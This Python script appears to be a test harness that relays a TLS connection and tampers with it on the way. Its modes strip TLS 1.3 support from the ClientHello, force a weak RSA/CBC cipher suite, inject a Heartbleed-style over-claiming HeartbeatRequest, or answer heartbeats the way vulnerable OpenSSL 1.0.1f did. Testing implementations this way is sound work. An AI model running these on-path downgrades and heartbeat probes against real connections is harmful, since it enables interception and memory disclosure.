#!/usr/bin/env python3
"""Relays one TLS connection and changes it on the way, as somebody between client and server can.

usage: on-path.py CHANGE LISTEN_PORT SERVER_PORT [HOST]

CHANGE:
  strip-versions   renames supported_versions in the client's hello, so that the server does not see TLS 1.3
  replace-suites   replaces all suites in the client's hello with TLS_RSA_WITH_AES_128_CBC_SHA
  send-heartbeat   sends a HeartbeatRequest (RFC 6520) that claims more bytes than it has, after the server's first records
  answer-heartbeat answers such a request with as many bytes as it claims, as OpenSSL 1.0.1f did, instead of the server
"""
import socket
import struct
import sys
import threading

SUPPORTED_VERSIONS = 43
UNKNOWN = 0x4A4A
RSA_AES128_SHA = b"\x00\x2f"
HANDSHAKE, HEARTBEAT = 22, 24
CLAIMED = 4000


def records(connection):
    """The records of one side, header and fragment, until it closes."""
    with connection.makefile("rb") as stream:
        while len(header := stream.read(5)) == 5:
            yield header + stream.read(struct.unpack(">H", header[3:])[0])


def is_client_hello(record):
    return record[0] == HANDSHAKE and record[5] == 1


def suites(record):
    """Where the suites of a ClientHello begin and end."""
    place = 5 + 4 + 2 + 32
    place += 1 + record[place]
    return place + 2, place + 2 + struct.unpack_from(">H", record, place)[0]


def replace_suites(record):
    begin, end = suites(record)
    return record[:begin] + RSA_AES128_SHA * ((end - begin) // 2) + record[end:]


def strip_versions(record):
    """The ClientHello with the type of supported_versions replaced."""
    place = suites(record)[1]
    place += 1 + record[place]
    end = place + 2 + struct.unpack_from(">H", record, place)[0]
    place += 2
    while place < end:
        kind, length = struct.unpack_from(">HH", record, place)
        if kind == SUPPORTED_VERSIONS:
            return record[:place] + struct.pack(">H", UNKNOWN) + record[place + 2:]
        place += 4 + length
    return record


def heartbeat(kind, claimed, payload):
    message = struct.pack(">BH", kind, claimed) + payload
    return struct.pack(">BHH", HEARTBEAT, 0x0303, len(message)) + message


def relay(source, target, change):
    try:
        for record in records(source):
            target.sendall(change(record))
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


change = sys.argv[1]
listener = socket.create_server(("127.0.0.1", int(sys.argv[2])))
client, _ = listener.accept()
server = socket.create_connection((sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1", int(sys.argv[3])))
for side in client, server:
    side.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
is_sent = False


def from_client(record):
    if change == "strip-versions" and is_client_hello(record):
        return strip_versions(record)
    if change == "replace-suites" and is_client_hello(record):
        return replace_suites(record)
    if change == "answer-heartbeat" and record[0] == HEARTBEAT:
        claimed = struct.unpack_from(">H", record, 6)[0]
        client.sendall(heartbeat(2, claimed, bytes(i % 251 for i in range(claimed)) + bytes(16)))
        return b""
    return record


def from_server(record):
    global is_sent
    if change == "send-heartbeat":
        if record[0] == HEARTBEAT:
            return b""
        # The last message of the server's flight is ServerHelloDone, with an empty body.
        if not is_sent and record.endswith(b"\x0e\0\0\0"):
            is_sent = True
            server.sendall(heartbeat(1, CLAIMED, b""))
    return record


threads = [threading.Thread(target=relay, args=arguments) for arguments in ((client, server, from_client), (server, client, from_server))]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
client.close()
server.close()
